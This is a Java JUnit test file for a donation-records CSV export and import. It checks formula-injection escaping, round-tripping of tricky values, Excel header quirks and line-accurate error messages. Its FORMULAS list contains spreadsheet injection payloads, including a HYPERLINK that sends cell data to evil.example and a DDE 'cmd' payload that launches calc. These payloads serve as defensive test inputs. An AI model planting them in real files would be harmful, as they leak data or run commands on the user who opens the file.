package switchboard.records;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import switchboard.testing.AdminNodeTest;
import switchboard.testing.Stored;

/** CSV both ways: an export a spreadsheet cannot run, an import that takes what Excel writes and points at the right line. */
class RecordsCsvTest extends AdminNodeTest {
    private static final List<String> FORMULAS = List.of("+1+HYPERLINK(\"http://evil.example/?x\"&A1)", "-2+3+cmd|' /C calc'!A0",
            "=1+1", "@SUM(A1)", "+3 apples", "-1.5e3", "\tTAB=1", "\rCR=1", "1+1");
    private static final List<String> NUMBERS = List.of("-12.50", "+3", "42", "0.5");

    @AfterEach
    void emptyDonations() {
        node.database().sql().execute("delete from donations");
        node.database().sql().execute("delete from donation_imports");
    }

    private static void insertDonation(String donor) {
        node.database().sql().execute("insert into donations (donor_name, amount, currency, method, status, transaction_date) "
                + "values (?, 10, 'EUR', 'cash', 'pledged', date '2026-11-01')", donor);
    }

    @Test
    void exportedFormulasArePrefixedAndOnlyPlainNumbersAreNot() {
        FORMULAS.forEach(RecordsCsvTest::insertDonation);
        NUMBERS.forEach(RecordsCsvTest::insertDonation);
        var rows = Csv.parse(admin.get("/records/donations/export?sort=id&dir=asc").body());
        var donors = rows.subList(1, rows.size()).stream().map(r -> r.cells().get(1)).toList();
        for (String formula : FORMULAS) {
            boolean needsPrefix = "=+-@\t\r".indexOf(formula.charAt(0)) >= 0;
            assertTrue(donors.contains(needsPrefix ? "'" + formula : formula), formula + " exported as one of " + donors);
        }
        for (String number : NUMBERS) {
            assertTrue(donors.contains(number), number + " is exported as it is: " + donors);
        }
    }

    private static final String STORED = "select string_agg(concat_ws('|', donor_name, coalesce(donor_contact, '<null>'), amount::text, currency, method, status, "
            + "transaction_date::text, coalesce(notes, '<null>')), E'\\n' order by donor_name, amount) from donations";

    @Test
    void anExportImportsBackToTheSameValues() {
        String[][] tricky = {
            {"=1", "+90 532 123 45 67", "10.00", "EUR", "received", "line one\r\nline two, \"quoted\""},
            {"+90 532", "-", "1500", "JPY", "pledged", "=HYPERLINK(\"x\")\nsecond"},
            {"@SUM(A1)", null, "1.234", "KWD", "pledged", "'+still"},
            {"'already", "'=2", "7.50", "TRY", "received", null},
            {"-5 note", "a, b", "0.01", "USD", "pledged", "-12.50"},
            {"say \"hi\", then", "''", "42.00", "EUR", "pledged", "@"},
        };
        for (String[] t : tricky) {
            node.database().sql().execute("insert into donations (donor_name, donor_contact, amount, currency, method, status, transaction_date, notes) "
                    + "values (?, ?, ?::numeric, ?, 'cash', ?, date '2026-11-01', ?)", t[0], t[1], t[2], t[3], t[4], t[5]);
        }
        String before = String.valueOf(node.database().sql().fetchValue(STORED));
        String exported = admin.get("/records/donations/export").body();
        node.database().sql().execute("delete from donations");
        var answer = admin.post("/records/donations/import", Map.of("csv", exported));
        assertEquals(303, answer.statusCode(), answer.body());
        assertEquals(before, String.valueOf(node.database().sql().fetchValue(STORED)), "exported as " + exported);
    }

    private static final String HEADER = "donor_name,donor_contact,amount,currency,method,status,transaction_date,notes";

    @Test
    void excelsByteOrderMarkAndHeadersInAnyCaseAreTaken() {
        var answer = admin.post("/records/donations/import", Map.of("csv", "\uFEFF Donor_Name ,DONOR_CONTACT,Amount,currency,method,status,transaction_date,notes\r\n"
                + "Deniz Ak,,100,TRY,cash,pledged,2026-11-01,\r\n"));
        assertEquals(303, answer.statusCode(), answer.body());
        assertTrue(admin.get(answer.headers().firstValue("Location").orElseThrow()).body().contains("Imported 1 donations"), answer.body());
        var reordered = admin.post("/records/donations/import", Map.of("csv", "amount,currency,donor_name,donor_contact,method,status,transaction_date,notes\n"
                + "7,EUR,Ece Su,,cash,pledged,2026-11-02,\n"));
        assertEquals(303, reordered.statusCode(), reordered.body());
        assertEquals("7.00", String.valueOf(node.database().sql().fetchValue("select amount::text from donations where donor_name = 'Ece Su'")));
    }

    @Test
    void errorsNameThePhysicalLineEvenAfterCellsWithLineBreaks() {
        var before = Stored.digest(node.database().sql());
        var answer = admin.post("/records/donations/import", Map.of("csv", HEADER + "\r\n"
                + "Deniz Ak,,100,TRY,cash,pledged,2026-11-01,\"a note\r\non three\r\nlines\"\r\n"
                + "\r\n"
                + "Ece Su,,-3,EUR,card,pledged,2026-11-02,\r\n"));
        assertEquals(422, answer.statusCode());
        assertTrue(answer.body().contains("Line 6, amount"), "header 1, Deniz 2-4, blank 5, Ece 6: " + answer.body());
        assertEquals(before, Stored.digest(node.database().sql()));
    }

    @Test
    void aRefundedLineIsRefusedOnItsStatusAsTheFormRefusesIt() {
        var before = Stored.digest(node.database().sql());
        String csv = HEADER + "\nDeniz Ak,,100,TRY,cash,received,2026-11-01,\nEce Su,,5,EUR,card,refunded,2026-11-02,\n";
        var answer = admin.post("/records/donations/import", Map.of("csv", csv));
        assertEquals(422, answer.statusCode(), answer.body());
        assertTrue(answer.body().contains("Line 3, status: " + RecordRules.NEVER_RECEIVED), answer.body());
        assertTrue(answer.body().contains("Ece Su,,5,EUR,card,refunded,2026-11-02,"), "the pasted CSV is kept");
        assertEquals(before, Stored.digest(node.database().sql()), "not even the received line is stored");
        var form = admin.post("/records/donations", new java.util.LinkedHashMap<>(Map.of("donor_name", "Ece Su", "donor_contact", "", "amount", "5",
                "currency", "EUR", "method", "card", "status", "refunded", "transaction_date", "2026-11-02", "notes", "")));
        assertEquals(422, form.statusCode());
        int at = form.body().indexOf("id=\"error-status\"");
        assertTrue(at > 0 && form.body().indexOf(RecordRules.NEVER_RECEIVED, at) > 0, "the form says the same on the field: " + form.body());
        assertEquals(before, Stored.digest(node.database().sql()));
    }

    @Test
    void anUnterminatedQuoteIsReportedWhereItStarts() {
        var before = Stored.digest(node.database().sql());
        var answer = admin.post("/records/donations/import", Map.of("csv", HEADER + "\n"
                + "Deniz Ak,,100,TRY,cash,pledged,2026-11-01,\n"
                + "Ece Su,,5,EUR,card,pledged,2026-11-02,\"unfinished note\n"
                + "Ali Can,,5,EUR,card,pledged,2026-11-02,\n"));
        assertEquals(422, answer.statusCode());
        assertTrue(answer.body().contains("Line 3: a quote opens a cell there and never closes."), answer.body());
        assertEquals(before, Stored.digest(node.database().sql()));
    }
}
